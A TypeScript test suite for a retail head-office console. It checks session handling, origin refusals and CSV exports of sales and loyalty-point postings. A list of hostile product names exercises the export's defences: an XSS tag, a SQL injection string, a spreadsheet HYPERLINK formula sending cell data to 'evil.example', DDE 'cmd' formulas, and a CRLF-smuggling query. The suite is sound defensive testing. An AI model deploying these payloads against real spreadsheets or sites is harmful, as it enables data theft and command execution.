import { expect, test } from 'vitest';
import { sha256 } from '../../headoffice/access/crypto.ts';
import { salesCsv } from '../../headoffice/insight/export-sales.ts';
import type { SaleClosed } from '../../shared/journal/entry.ts';
import { day } from '../../shared/units/time.ts';
import { saleFact } from '../fakes/wire-till.ts';
import { csvCells, parseCsv } from '../tables/csv-reader.ts';
import type { TrialOffice } from './office.ts';
import { card, newMember } from './reference.ts';

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE entry;--",
  '=HYPERLINK("http://evil.example?"&A1,"Tea")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '+1+1',
  '＝1＋1',
  "tea;=cmd|' /C calc'!A0",
  "'=1",
  ' \u00a0=1',
  '\u202e00.9 EUR',
  'a\u2028b\u2029c',
  'bell \u007f\u0085\u009b end',
  'x'.repeat(300),
  '日'.repeat(300),
  'comma, "quotes"',
];

export function consoleSuite(trial: () => TrialOffice): void {
  const ours = () => ({ origin: trial().office.url, 'x-joren-console': '1', 'content-type': 'application/json' });
  const post = (path: string, body: unknown, headers: Record<string, string>) =>
    fetch(`${trial().office.url}/console/api/${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
  const codeOf = async (response: Response) =>
    `${response.status} ${((await response.json()) as { error?: string }).error}`;
  const refusalOf = (path: string, headers: Record<string, string>) =>
    fetch(`${trial().office.url}/console/api/${path}`, { headers }).then(codeOf);
  const token = () => new URL(trial().office.consoleUrl()).hash.slice(1);

  const signedIn = async () => {
    const response = await post('session', { token: token() }, ours());
    expect(response.status).toBe(200);
    const setCookie = response.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(/; Path=\/console; HttpOnly; SameSite=Strict$/);
    const cookie = setCookie.split(';')[0] ?? '';
    const get = async <T>(path: string): Promise<T> => {
      const answer = await fetch(`${trial().office.url}/console/api/${path}`, { headers: { cookie } });
      expect(answer.status).toBe(200);
      return (await answer.json()) as T;
    };
    const file = async (path: string) => {
      const answer = await fetch(`${trial().office.url}/console/api/${path}`, { headers: { cookie } });
      // As bytes: reading a body as text would take its byte order mark off.
      const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await answer.arrayBuffer());
      return { status: answer.status, headers: answer.headers, text };
    };
    return { cookie, get, file };
  };

  test('the printed address opens one session', async () => {
    const used = token();
    const { cookie } = await signedIn();
    expect(await codeOf(await post('session', { token: used }, ours()))).toBe('401 console.tokenUsed');
    trial().clock.ms += 31 * 60_000;
    const late = await fetch(`${trial().office.url}/console/api/stores`, { headers: { cookie } });
    expect(await codeOf(late)).toBe('401 console.signedOut');
    trial().clock.ms -= 31 * 60_000;
  });

  test.each<[string, Record<string, string>, string]>([
    ['without a session', { cookie: '' }, '401 console.signedOut'],
    ['with a wrong one', { cookie: 'joren_console=abc' }, '401 console.signedOut'],
    ['from another page', { origin: 'http://evil.example' }, '403 console.otherPage'],
    ['from no page', { origin: '' }, '403 console.otherPage'],
    ['from a form', { 'x-joren-console': '' }, '403 console.otherPage'],
    ['across sites', { 'sec-fetch-site': 'cross-site' }, '403 console.otherPage'],
  ])('an enrolment code is not given %s', async (_name, headers, wanted) => {
    const { cookie } = await signedIn();
    const store = await trial().newStore();
    expect(await codeOf(await post('enrolment-codes', { store }, { ...ours(), cookie, ...headers }))).toBe(wanted);
  });

  test('stores show how far each till has come, and an enrolment code is one request away', async () => {
    const { cookie, get } = await signedIn();
    const till = await trial().newTill();
    till.record(saleFact({ product: 'unheard-of' }));
    await till.uploadAll();
    const [store] = await get<{ id: string; tills: object[] }[]>(`stores?search=${till.store}`);
    expect(store).toMatchObject({
      id: till.store,
      tills: [{ till: till.till, seq: 1, state: 'active', quarantined: 0 }],
    });
    expect((store!.tills[0] as { alarms: number }).alarms).toBeGreaterThan(0);
    const answer = await post('enrolment-codes', { store: till.store }, { ...ours(), cookie });
    expect(((await answer.json()) as { code: string }).code).toMatch(/^(?:[0-9A-Z]{4}-){3}[0-9A-Z]{4}$/);
    expect(await codeOf(await post('enrolment-codes', { store: 'nowhere' }, { ...ours(), cookie }))).toContain('404');
    await post('till-states', { till: till.till, state: 'frozen', reason: 'Look' }, { ...ours(), cookie });
    expect((await till.headHeld()).body.frozen).toBe('Look');
  });

  test('a member is found by id, greeting or card, with every entry that explains the points', async () => {
    const { get } = await signedIn();
    const till = await trial().newTill();
    const id = `seen-${till.till}`;
    const greeting = `<b>Mi</b> ${till.till}`;
    await trial().office.importReference({
      members: [newMember(id, { greeting, points: 10 })],
      cards: [{ ...card(sha256(id), id), last4: till.till.slice(-4).padStart(4, '0') }],
    });
    till.record(saleFact({ member: id, points: [{ points: 4 }, { points: -2 }] }));
    await till.uploadAll();
    for (const search of [id, greeting.slice(0, 12).toUpperCase(), till.till.slice(-4).padStart(4, '0')])
      expect((await get<{ id: string }[]>(`members?search=${encodeURIComponent(search)}`)).map((m) => m.id)).toContain(
        id,
      );
    const view = await get<{ entries: { seq: number; postings: { points: number }[] }[] }>(`members/${id}`);
    expect(view).toMatchObject({
      greeting,
      wallets: { points: [{ points: 12 }] },
      opening: { wallets: { points: [{ points: 10 }] } },
    });
    expect(view.entries.map((entry) => entry.postings.map(({ points }) => points))).toEqual([[4, -2]]);
    const entry = await get<{ entry: { lines: { name: string }[] }; bytes: string }>(
      `entries/${till.store}/${till.till}/1/1`,
    );
    expect(entry.bytes).toBe(till.sealed[0]?.bytes);
    expect(entry.entry.lines[0]?.name).toBe('Green tea');
  });

  const november = 'sales.csv?from=2026-11-01&to=2026-11-30';

  test('hostile names come from a sale into its CSV as text, and reading back gives what was sold', async () => {
    const { file } = await signedIn();
    const till = await trial().newTill();
    for (const name of HOSTILE) till.record(saleFact({ name, price: -250 }));
    await till.uploadAll();
    const { status, headers, text } = await file(`stores/${till.store}/${november}`);
    expect(status).toBe(200);
    expect(Object.fromEntries(headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="joren-sales-2026-11-01-to-2026-11-30.csv"',
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    });
    for (const cell of csvCells(text.slice(1)).flat())
      expect(/^-?\d+$/.test(cell) || !/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell), cell).toBe(true);
    const records = parseCsv(text);
    expect(records.map(({ name }) => name)).toEqual(HOSTILE);
    expect(records[0]).toMatchObject({
      store: till.store,
      seq: '1',
      business_date: '2026-11-22',
      currency: 'JPY',
      quantity: '1',
      list: '-250',
      discount: '0',
      paid: '-250',
      sale_total: '-250',
    });
  });

  test('a file has the real sales of its store and days, each once, up to what was there when it began', async () => {
    const till = await trial().newTill();
    till.record(saleFact(), { businessDate: day('2026-10-31') });
    till.record(saleFact(), { mode: 'training' });
    for (let count = 0; count < 249; count++) till.record(saleFact());
    till.record(saleFact(), { businessDate: day('2026-12-01') });
    await till.uploadAll();
    const lane = await trial().newTill(till.store);
    for (let count = 0; count < 60; count++) lane.record(saleFact());
    await lane.uploadAll();
    const elsewhere = await trial().newTill();
    elsewhere.record(saleFact());
    await elsewhere.uploadAll();
    const wanted = { store: till.store, from: day('2026-11-01'), to: day('2026-11-30') };
    const chunks = salesCsv(trial().office.db, wanted);
    const read: string[] = [];
    for (let page = 0; page < 2; page++) read.push((await chunks.next()).value ?? '');
    till.record(saleFact());
    await till.uploadAll();
    for await (const chunk of chunks) read.push(chunk);
    expect(read.map((chunk) => csvCells(chunk).length)).toEqual([1, 100, 100, 49, 60]);
    const seqsOf = (of: string) =>
      parseCsv(read.join('')).flatMap(({ till: at, seq }) => (at === of ? [Number(seq)] : []));
    expect(seqsOf(till.till)).toEqual(Array.from({ length: 249 }, (_, index) => index + 3));
    expect(seqsOf(lane.till)).toEqual(Array.from({ length: 60 }, (_, index) => index + 1));
  });

  test('a sale of amounts that no currency has does not stop the file', async () => {
    const { file } = await signedIn();
    const till = await trial().newTill();
    const sale = saleFact() as unknown as SaleClosed;
    const [line] = sale.lines;
    const discount = { programme: 'x', rev: 1, name: '=1', amount: Number.MAX_SAFE_INTEGER };
    const odd = (over: object) => till.record({ ...sale, ...over } as unknown as ReturnType<typeof saleFact>);
    odd({ currency: { code: '=A1', digits: 2 ** 40 } });
    odd({ currency: { code: 'EUR', digits: -1 } });
    odd({ currency: { code: 'EUR', digits: 2 }, lines: [{ ...line, discounts: [discount, discount] }, line] });
    await till.uploadAll();
    const records = parseCsv((await file(`stores/${till.store}/${november}`)).text);
    expect(records.map((each) => [each.currency, each.sale_total, each.paid, each.discount, each.offers])).toEqual([
      ['=A1', '', '', '', ''],
      ['EUR', '', '', '', ''],
      ['EUR', '2.50', '2.50', '', '=1, =1'],
      ['EUR', '', '2.50', '0.00', ''],
    ]);
  });

  test('the postings of a member add up to the points', async () => {
    const { file, get } = await signedIn();
    const till = await trial().newTill();
    const id = `posted-${till.till}`;
    await trial().office.importReference({ members: [newMember(id, { points: 10 })] });
    const points = [{ points: 4, until: '2027-11-22' }, { points: -2 }].map((moved) => ({ ...moved, name: '=A1' }));
    for (let visit = 0; visit < 3; visit++) till.record(saleFact({ member: id, points }));
    await till.uploadAll();
    const { headers, text } = await file(`members/${id}/postings.csv`);
    expect(headers.get('content-disposition')).toBe('attachment; filename="joren-member-postings-2026-11-22.csv"');
    const records = parseCsv(text);
    expect(records.map((each) => [each.seq, each.kind, each.points, each.valid_until])).toEqual([
      ['', 'opening', '10', ''],
      ...['1', '2', '3'].flatMap((seq) => [
        [seq, 'earn', '4', '2027-11-22'],
        [seq, 'spend', '-2', ''],
      ]),
    ]);
    expect(records[1]).toMatchObject({ member: id, store: till.store, till: till.till, name: '=A1', wallet: 'points' });
    const { wallets } = await get<{ wallets: { points: { points: number }[] } }>(`members/${id}`);
    const balance = wallets.points.reduce((all, lot) => all + lot.points, 0);
    expect(records.reduce((all, each) => all + Number(each.points), 0)).toBe(balance);
  });

  test('more postings than a page holds come once each, the oldest first', async () => {
    const { file } = await signedIn();
    const till = await trial().newTill();
    const id = `often-${till.till}`;
    await trial().office.importReference({ members: [newMember(id)] });
    const points = Array.from({ length: 150 }, (_, index) => ({ points: index + 1 }));
    for (let visit = 0; visit < 8; visit++) till.record(saleFact({ member: id, points }));
    await till.uploadAll();
    const records = parseCsv((await file(`members/${id}/postings.csv`)).text);
    expect(new Set(records.map(({ posting }) => posting)).size).toBe(8 * 150);
    expect(records.map(({ seq }) => Number(seq))).toEqual(records.map((_, index) => Math.floor(index / 150) + 1));
  });

  test.each([
    ['', '400 export.notDays'],
    ['?from=2026-11-01', '400 export.notDays'],
    ['?from=2026-02-30&to=2026-03-01', '400 export.notDays'],
    ['?from=2026-11-01&to=2026-11-30%0d%0ax:y', '400 export.notDays'],
    ['?from=2026-11-01&from=2026-11-02&to=2026-11-30', '400 export.notDays'],
    ['?from=2026-11-02&to=2026-11-01', '400 export.endsBeforeItBegins'],
  ])('sales of the period %j are refused', async (query, wanted) => {
    const { cookie } = await signedIn();
    const store = await trial().newStore();
    expect(await refusalOf(`stores/${store}/sales.csv${query}`, { cookie })).toBe(wanted);
  });

  test('no file is given to a stranger, nor one of what is not there', async () => {
    const { cookie } = await signedIn();
    for (const path of [`stores/nowhere/${november}`, 'members/nobody/postings.csv']) {
      expect(await refusalOf(path, {})).toBe('401 console.signedOut');
      expect(await refusalOf(path, { cookie })).toBe('404 console.notThere');
    }
  });

  test('no answer of the console holds a secret', async () => {
    const { get } = await signedIn();
    const till = await trial().newTill();
    const all = JSON.stringify([await get('stores'), await get('alarms'), await get('members?search=Yuki')]);
    expect(all).not.toContain(till.keys.publicKey);
    expect(all).not.toContain(trial().office.keys.lookupKey);
  });

  test('the page carries its policy, and whatever it answers carries one', async () => {
    const { headers } = await fetch(`${trial().office.url}/console/`);
    expect(headers.get('content-security-policy')).toContain("require-trusted-types-for 'script'");
    expect(headers.get('content-security-policy')).not.toContain('unsafe');
    expect(headers.get('cache-control')).toBe('no-store');
  });
}
